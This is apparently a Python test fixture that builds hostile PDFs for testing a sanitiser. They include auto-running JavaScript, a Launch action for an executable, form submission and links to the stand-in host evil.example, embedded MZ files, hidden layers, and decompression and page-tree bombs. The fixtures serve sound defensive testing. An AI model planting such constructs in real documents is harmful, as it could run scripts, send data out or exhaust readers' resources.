"""PDFs for the tests of self-reports: plain ones, and a hostile one for each thing that must not come
through.

Each hostile one holds the word SECRET where it must vanish, and one page that says "Thank you".
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Pdf

SECRET = b"SECRET"
THANKS = b"BT /F0 12 Tf 20 100 Td (Thank you) Tj ET\n"
Page = Dictionary


def a_pdf(change: Callable[[Pdf, Page], None] | None = None, pages: int = 1) -> bytes:
    """A file whose pages say "Thank you", after the change of its first page."""
    with pikepdf.new() as made:
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for _ in range(pages):
            made.add_blank_page(page_size=(200, 200))
            page = made.pages[-1].obj
            page.Resources = Dictionary(Font=Dictionary(F0=font))
            page.Contents = made.make_stream(THANKS)
        if change is not None:
            change(made, made.pages[0].obj)
        out = io.BytesIO()
        # Uncompressed, so that what is hidden can be looked for.
        made.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def opened(raw: bytes) -> bytes:
    """The file with every stream unpacked."""
    with pikepdf.open(io.BytesIO(raw)) as held:
        out = io.BytesIO()
        held.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


def script(code: str = "app.alert('SECRET')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=code)


def opens_a_script(pdf: Pdf, page: Page) -> None:
    pdf.Root.OpenAction = script()


def names_a_script(pdf: Pdf, page: Page) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", pdf.make_indirect(script())])))


def acts_when_a_page_is_turned(pdf: Pdf, page: Page) -> None:
    page.AA = Dictionary(O=script())


def acts_when_it_is_closed(pdf: Pdf, page: Page) -> None:
    pdf.Root.AA = Dictionary(WC=script())


def starts_a_program(pdf: Pdf, page: Page) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="SECRET.exe")


def sends_a_form(pdf: Pdf, page: Page) -> None:
    _annotated(pdf, page, Dictionary(S=Name.SubmitForm, F="https://evil.example/SECRET"))


def links_elsewhere(pdf: Pdf, page: Page) -> None:
    _annotated(pdf, page, Dictionary(S=Name.URI, URI="https://evil.example/SECRET"))


def _annotated(pdf: Pdf, page: Page, action: Dictionary) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 200], A=action)
    page.Annots = Array([pdf.make_indirect(link)])


def carries_a_file(pdf: Pdf, page: Page) -> None:
    pdf.attachments["SECRET.exe"] = AttachedFileSpec(pdf, b"MZ SECRET")


def carries_a_file_on_a_page(pdf: Pdf, page: Page) -> None:
    held = pdf.make_stream(b"MZ SECRET")
    spec = Dictionary(Type=Name.Filespec, F="SECRET.exe", EF=Dictionary(F=held))
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=spec, Rect=[0, 0, 9, 9])
            )
        ]
    )


def carries_associated_files(pdf: Pdf, page: Page) -> None:
    spec = Dictionary(Type=Name.Filespec, F="SECRET", EF=Dictionary(F=pdf.make_stream(b"SECRET")))
    page.Resources.Font.F0.AF = Array([spec])
    page.AF = Array([spec])


def plays_a_film(pdf: Pdf, page: Page) -> None:
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=[0, 0, 9, 9],
                    RichMediaContent=Dictionary(Assets=Dictionary(Names=Array(["SECRET.swf", "SECRET"]))),
                )
            )
        ]
    )


def is_a_program_of_forms(pdf: Pdf, page: Page) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<script>SECRET</script>"))


def a_group(pdf: Pdf, *, shown: bool = False) -> Dictionary:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="layer"))
    held = [*pdf.Root.OCProperties.OCGs] if "/OCProperties" in pdf.Root else []
    off = [*pdf.Root.OCProperties.D.OFF] if held else []
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([*held, group]), D=Dictionary(OFF=Array(off if shown else [*off, group]))
    )
    return group


HIDDEN = b"/OC /M0 BDC BT /F0 9 Tf (SECRET) Tj ET 0 0 5 5 re f EMC\n"


def hides_a_layer(pdf: Pdf, page: Page) -> None:
    page.Resources.Properties = Dictionary(M0=a_group(pdf))
    page.Contents = pdf.make_stream(HIDDEN + THANKS)


def hides_by_a_membership(pdf: Pdf, page: Page) -> None:
    page.Resources.Properties = Dictionary(
        M0=Dictionary(Type=Name.OCMD, OCGs=Array([a_group(pdf), a_group(pdf, shown=True)]), P=Name.AllOn)
    )
    page.Contents = pdf.make_stream(HIDDEN + THANKS)


def hides_by_an_expression(pdf: Pdf, page: Page) -> None:
    shown = a_group(pdf, shown=True)
    page.Resources.Properties = Dictionary(M0=Dictionary(Type=Name.OCMD, VE=Array([Name.Not, shown])))
    page.Contents = pdf.make_stream(HIDDEN + THANKS)


def hides_by_the_usual_state(pdf: Pdf, page: Page) -> None:
    page.Resources.Properties = Dictionary(M0=a_group(pdf, shown=True))
    pdf.Root.OCProperties.D = Dictionary(BaseState=Name.OFF)
    page.Contents = pdf.make_stream(HIDDEN + THANKS)


def _form(pdf: Pdf, content: bytes, **more: object) -> Dictionary:
    return pdf.make_stream(content, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 200], **more)  # type: ignore[return-value]


def hides_a_form(pdf: Pdf, page: Page) -> None:
    page.Resources.XObject = Dictionary(X0=_form(pdf, b"BT (SECRET) Tj ET", OC=a_group(pdf)))
    page.Contents = pdf.make_stream(b"/X0 Do\n" + THANKS)


def hides_a_form_by_its_place(pdf: Pdf, page: Page) -> None:
    page.Resources.XObject = Dictionary(X0=_form(pdf, b"BT (SECRET) Tj ET"))
    page.Resources.Properties = Dictionary(M0=a_group(pdf))
    page.Contents = pdf.make_stream(b"/OC /M0 BDC /X0 Do EMC\n" + THANKS)


def hides_within_a_form(pdf: Pdf, page: Page) -> None:
    own = Dictionary(Properties=Dictionary(M0=a_group(pdf)), Font=page.Resources.Font)
    page.Resources.XObject = Dictionary(X0=_form(pdf, HIDDEN, Resources=own))
    page.Contents = pdf.make_stream(b"/X0 Do\n" + THANKS)


def hides_a_picture(pdf: Pdf, page: Page) -> None:
    picture = pdf.make_stream(
        b"SECRET" * 2,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=2,
        Height=2,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
        OC=a_group(pdf),
    )
    page.Resources.XObject = Dictionary(X0=picture)
    page.Contents = pdf.make_stream(b"/X0 Do\n" + THANKS)


def is_a_program_for_printers(pdf: Pdf, page: Page) -> None:
    page.Resources.XObject = Dictionary(
        X0=pdf.make_stream(b"(SECRET) run", Type=Name.XObject, Subtype=Name.PS)
    )
    page.Contents = pdf.make_stream(b"/X0 Do\n" + THANKS)


def says_something_else_aloud(pdf: Pdf, page: Page) -> None:
    page.Contents = pdf.make_stream(b"/Span <</ActualText (SECRET)>> BDC\n" + THANKS + b"EMC\n")


def tells_who_made_it(pdf: Pdf, page: Page) -> None:
    pdf.docinfo["/Author"] = "SECRET"
    pdf.Root.Metadata = pdf.make_stream(b"<x>SECRET</x>", Type=Name.Metadata, Subtype=Name.XML)
    page.Metadata = pdf.make_stream(b"<x>SECRET</x>", Type=Name.Metadata, Subtype=Name.XML)
    page.Thumb = pdf.make_stream(b"SECRET")


def keeps_what_was_cut_away(pdf: Pdf, page: Page) -> None:
    pdf.Root.Cut = pdf.make_stream(b"SECRET")
    page.PieceInfo = Dictionary(App=Dictionary(Private=pdf.make_stream(b"SECRET")))
    page.Resources.XObject = Dictionary(X9=_form(pdf, b"BT (SECRET) Tj ET"))


HOSTILE: Mapping[str, Callable[[Pdf, Page], None]] = {
    make.__name__.replace("_", " "): make
    for make in (
        opens_a_script,
        names_a_script,
        acts_when_a_page_is_turned,
        acts_when_it_is_closed,
        starts_a_program,
        sends_a_form,
        links_elsewhere,
        carries_a_file,
        carries_a_file_on_a_page,
        carries_associated_files,
        plays_a_film,
        is_a_program_of_forms,
        hides_a_layer,
        hides_by_a_membership,
        hides_by_an_expression,
        hides_by_the_usual_state,
        hides_a_form,
        hides_a_form_by_its_place,
        hides_within_a_form,
        hides_a_picture,
        is_a_program_for_printers,
        says_something_else_aloud,
        tells_who_made_it,
        keeps_what_was_cut_away,
    )
}


def _no_pages(kids: bytes) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[" + kids + b"]>>endobj\ntrailer<</Root 1 0 R>>"
    )


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "nothing but a beginning": lambda: b"%PDF-1.7",
    "a page of html": lambda: b"%PDF-1.7<html><script>alert(1)</script>",
    "no pages": lambda: _no_pages(b""),
    "pages that are their own parents": lambda: _no_pages(b"2 0 R"),
    "a page of seven hundred megabytes": lambda: a_pdf(
        lambda pdf, page: _content(pdf, page, _packed(b" " * 2**20, 700))
    ),
    "three hundred and one pages": lambda: a_pdf(pages=301),
    "a password": lambda: _locked(),
}
ENDLESS: Mapping[str, Callable[[], bytes]] = {
    "ten million instructions": lambda: a_pdf(
        lambda pdf, page: _content(pdf, page, _packed(b"q Q " * 5_000, 1000))
    ),
}
"""Files that would take a reader's memory or time, or that are none; the last ones run into the limit of
time.
"""


def _content(pdf: Pdf, page: Page, packed: bytes) -> None:
    page.Contents = pikepdf.Stream(pdf, packed, Filter=Name.FlateDecode)


def _packed(block: bytes, times: int) -> bytes:
    packer = zlib.compressobj(1)
    return b"".join(packer.compress(block) for _ in range(times)) + packer.flush()


def _locked() -> bytes:
    with pikepdf.open(io.BytesIO(a_pdf())) as held:
        out = io.BytesIO()
        held.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()
